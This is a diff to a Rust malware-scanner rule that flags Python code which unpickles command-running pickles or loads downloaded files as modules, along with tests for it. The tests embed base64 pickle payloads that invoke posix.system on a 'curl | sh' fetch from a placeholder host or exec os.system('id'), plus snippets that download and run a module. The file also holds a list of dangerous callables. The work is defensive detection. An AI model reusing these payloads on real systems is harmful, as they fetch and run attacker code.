@@ -12,7 +12,7 @@ use crate::walker::{Checker, SourceKind};
 pub const RULE: Rule = Rule {
     id: "WH110",
     name: "dynamic-exec",
-    description: "exec, eval or compile runs code built at run time, decoded, or downloaded",
+    description: "exec, eval or compile runs code built at run time, decoded, or downloaded; a downloaded file is loaded as a module; a pickle naming a command runner is unpickled",
     rationale: "Executing a string hides the real program from readers and scanners. Decoded or \
                 downloaded code passed to exec is the signature of droppers; exec of a local version \
                 file is a harmless idiom and weighs little.",
@@ -163,6 +163,8 @@ fn is_file_read(checker: &Checker, expr: &Expr) -> bool {
 
 /// exec/eval/compile calls.
 pub fn check_call(checker: &mut Checker, call: &ExprCall, qualname: &str) {
+    check_loads_saved_file(checker, call, qualname);
+    check_unpickle(checker, call, qualname);
     if !is_exec(qualname) {
         return;
     }
@@ -170,6 +172,158 @@ pub fn check_call(checker: &mut Checker, call: &ExprCall, qualname: &str) {
         return;
     };
     check_executed(checker, call.range(), code, qualname);
+}
+
+/// Callables a pickle can name that run commands or code when `loads` calls them.
+fn is_dangerous_pickled_callable(name: &str) -> bool {
+    let (module, function) = name.rsplit_once('.').unwrap_or(("", name));
+    match module {
+        "os" | "posix" | "nt" => matches!(
+            function,
+            "system"
+                | "popen"
+                | "execv"
+                | "execve"
+                | "execl"
+                | "execlp"
+                | "execvp"
+                | "spawnv"
+                | "spawnl"
+                | "startfile"
+        ),
+        "subprocess" => true,
+        "builtins" | "__builtin__" => matches!(
+            function,
+            "exec" | "eval" | "compile" | "__import__" | "getattr" | "open"
+        ),
+        "runpy" | "pty" | "commands" | "webbrowser" => true,
+        _ => false,
+    }
+}
+
+/// `pickle.loads(blob)`: unpickling calls whatever callables the pickle names, with the
+/// arguments it carries, so an embedded pickle naming `os.system` is a hidden command and one
+/// naming `builtins.exec` hidden code (analysed as a layer). The pickle is read opcode by
+/// opcode ([`crate::pickle`]), never loaded. A pickle received from the network runs what the
+/// server sends.
+fn check_unpickle(checker: &mut Checker, call: &ExprCall, qualname: &str) {
+    let (module, function) = qualname.rsplit_once('.').unwrap_or(("", qualname));
+    if !matches!(function, "loads" | "load" | "_loads")
+        || !matches!(
+            module,
+            "pickle" | "cPickle" | "_pickle" | "dill" | "cloudpickle"
+        )
+    {
+        return;
+    }
+    let Some(argument) = call.arguments.args.first() else {
+        return;
+    };
+    let context = checker.context();
+    if let Some(contents) = checker
+        .fold(argument)
+        .and_then(|value| value.as_bytes())
+        .and_then(|bytes| crate::pickle::read(&bytes))
+    {
+        let Some(callable) = contents
+            .callables
+            .iter()
+            .find(|c| is_dangerous_pickled_callable(c))
+        else {
+            return;
+        };
+        let argument_text = contents.strings.last().cloned().unwrap_or_default();
+        if callable.ends_with(".exec") || callable.ends_with(".eval") {
+            checker.push_layer(
+                argument_text.clone(),
+                call.range(),
+                format!("pickled argument of {callable}"),
+            );
+        }
+        let severity = match context {
+            ExecContext::Install | ExecContext::Import => 0.9,
+            ExecContext::Runtime => 0.75,
+            ExecContext::TestOrDocs => 0.3,
+        };
+        checker.report(
+            &RULE,
+            call.range(),
+            format!(
+                "{qualname} unpickles an embedded pickle that calls {callable}(`{}`)",
+                crate::text::shorten(&argument_text, 120)
+            ),
+            severity,
+            vec!["exec", "pickle-call"],
+        );
+        return;
+    }
+    // `pickle.loads(pickle.dumps(response))` copies an object the code already holds.
+    let round_trip = matches!(argument, Expr::Call(inner)
+        if checker.qualname(&inner.func).is_some_and(|q| q.ends_with(".dumps")));
+    if round_trip {
+        return;
+    }
+    let remote = checker
+        .source_in(argument)
+        .and_then(|index| checker.sources.get(index).cloned())
+        .filter(|source| source.kind == SourceKind::Network);
+    if let Some(source) = remote {
+        let severity = match context {
+            ExecContext::Install | ExecContext::Import => 0.85,
+            ExecContext::Runtime => 0.3,
+            ExecContext::TestOrDocs => 0.1,
+        };
+        checker.report(
+            &RULE,
+            call.range(),
+            format!(
+                "{qualname} unpickles data received from the network ({}), which runs any callable the sender names",
+                source.label
+            ),
+            severity,
+            vec!["exec", "pickle-remote"],
+        );
+    }
+}
+
+/// The argument of a call that runs or imports a Python file by path: `runpy.run_path(p)`,
+/// `importlib.util.spec_from_file_location(name, p)` (then `exec_module`), `imp.load_source(name,
+/// p)`, `SourceFileLoader(name, p)`, `execfile(p)`.
+fn loaded_path<'c>(call: &'c ExprCall, qualname: &str) -> Option<&'c Expr> {
+    let (position, keyword) = match qualname {
+        "runpy.run_path" | "execfile" => (0, "path_name"),
+        "importlib.util.spec_from_file_location"
+        | "imp.load_source"
+        | "importlib.machinery.SourceFileLoader" => (1, "location"),
+        _ => return None,
+    };
+    call.arguments
+        .args
+        .get(position)
+        .or_else(|| super::keyword(call, keyword))
+        .or_else(|| super::keyword(call, "path"))
+}
+
+/// `urlretrieve(url, '/tmp/m.py')` then `spec_from_file_location('m', '/tmp/m.py')` and
+/// `exec_module`: the module runs a file it just downloaded or wrote Python into, as a process
+/// start of it would (WH120's runs-saved-file), only inside this interpreter.
+fn check_loads_saved_file(checker: &mut Checker, call: &ExprCall, qualname: &str) {
+    let Some(path) = loaded_path(call, qualname) else {
+        return;
+    };
+    let text = super::partial_text(checker, path).unwrap_or_default();
+    let Some(saved) = checker.saved_file_in(&text, Some(path)).cloned() else {
+        return;
+    };
+    let (message, severity) =
+        super::process_spawn::runs_saved_file(&saved, qualname, &text, checker.context());
+    checker.report(
+        &RULE,
+        call.range(),
+        message.replacen(" starts `", " loads as code `", 1),
+        severity,
+        vec!["exec", "runs-saved-file"],
+    );
 }
 
 fn check_executed(
@@ -373,6 +527,7 @@ pub fn check_py2_exec_statements(checker: &mut Checker, body: &[Stmt]) {
 
 #[cfg(test)]
 mod tests {
+    #![allow(clippy::expect_used)]
     use crate::rules::testing::max_severity;
 
     #[test]
@@ -398,6 +553,49 @@ mod tests {
     fn decoded_parts_collected_in_a_list_still_count() {
         let code = "import base64\ndef run(blobs):\n    parts = []\n    for b in blobs:\n        parts.append(base64.b64decode(b))\n    for p in parts:\n        exec(p)\n";
         assert!(max_severity("p/pkg/mod.py", code, "WH110") >= 0.5);
+    }
+
+    #[test]
+    fn an_embedded_pickle_naming_a_command_runner_is_a_hidden_command() {
+        let command = "import pickle, base64\ndef go():\n    pickle.loads(base64.b64decode('gASVRQAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjCpjdXJsIC1zIGh0dHA6Ly94LmV4YW1wbGUuaW52YWxpZC9hLnNoIHwgc2iUhZRSlC4='))\n";
+        let found = crate::rules::testing::findings("p/pkg/m.py", command);
+        let hit = found
+            .iter()
+            .find(|f| f.tags.contains(&"pickle-call"))
+            .expect("the pickle calls posix.system");
+        assert!(hit.message.contains("posix.system(`curl -s"), "{hit:?}");
+        assert!(hit.severity >= 0.7);
+        // `builtins.exec` of pickled source: the source is analysed as a layer.
+        let code = "import pickle, base64\npickle.loads(base64.b64decode('gAJjX19idWlsdGluX18KZXhlYwpxAFgaAAAAaW1wb3J0IG9zCm9zLnN5c3RlbSgnaWQnKQpxAYVxAlJxAy4='))\n";
+        assert!(max_severity("p/pkg/__init__.py", code, "WH110") >= 0.9);
+        assert!(max_severity("p/pkg/__init__.py", code, "WH120") > 0.0);
+        // Plain pickled data, and a pickle the code made itself, are data.
+        let data = "import pickle, base64\nWEIGHTS = pickle.loads(base64.b64decode('gASVGAAAAAAAAAB9lIwHd2VpZ2h0c5RdlChLAUsCSwNlcy4='))\n";
+        assert_eq!(max_severity("p/pkg/__init__.py", data, "WH110"), 0.0);
+        let copy = "import pickle, requests\nr = requests.get('https://x.example.invalid/')\nclone = pickle.loads(pickle.dumps(r))\n";
+        assert_eq!(max_severity("p/pkg/__init__.py", copy, "WH110"), 0.0);
+        let downloaded = "import pickle, urllib.request\nmodel = pickle.loads(urllib.request.urlopen('https://x.example.invalid/m.pkl').read())\n";
+        assert!(max_severity("p/pkg/__init__.py", downloaded, "WH110") >= 0.8);
+    }
+
+    #[test]
+    fn a_downloaded_file_loaded_as_a_module_is_run() {
+        let code = "import importlib.util, urllib.request\ndef go():\n    urllib.request.urlretrieve('https://x.example.invalid/stage.py', '/tmp/stage.py')\n    spec = importlib.util.spec_from_file_location('stage', '/tmp/stage.py')\n    module = importlib.util.module_from_spec(spec)\n    spec.loader.exec_module(module)\n";
+        let found = crate::rules::testing::findings("p/pkg/m.py", code);
+        let load = found
+            .iter()
+            .find(|f| f.rule == "WH110" && f.tags.contains(&"runs-saved-file"))
+            .expect("the download is loaded as code");
+        assert!(load.severity >= 0.6, "{load:?}");
+        let run_path = "import runpy, urllib.request\nurllib.request.urlretrieve('https://x.example.invalid/a.py', 'helper.py')\nrunpy.run_path('helper.py')\n";
+        assert!(max_severity("p/pkg/__init__.py", run_path, "WH110") >= 0.8);
+        // Loading a plugin file the package ships is what plugin systems do.
+        let plugin = "import importlib.util\ndef load(path):\n    spec = importlib.util.spec_from_file_location('plugin', path)\n    return importlib.util.module_from_spec(spec)\n";
+        assert!(
+            crate::rules::testing::findings("p/pkg/m.py", plugin)
+                .iter()
+                .all(|f| !f.tags.contains(&"runs-saved-file"))
+        );
     }
 
     #[test]
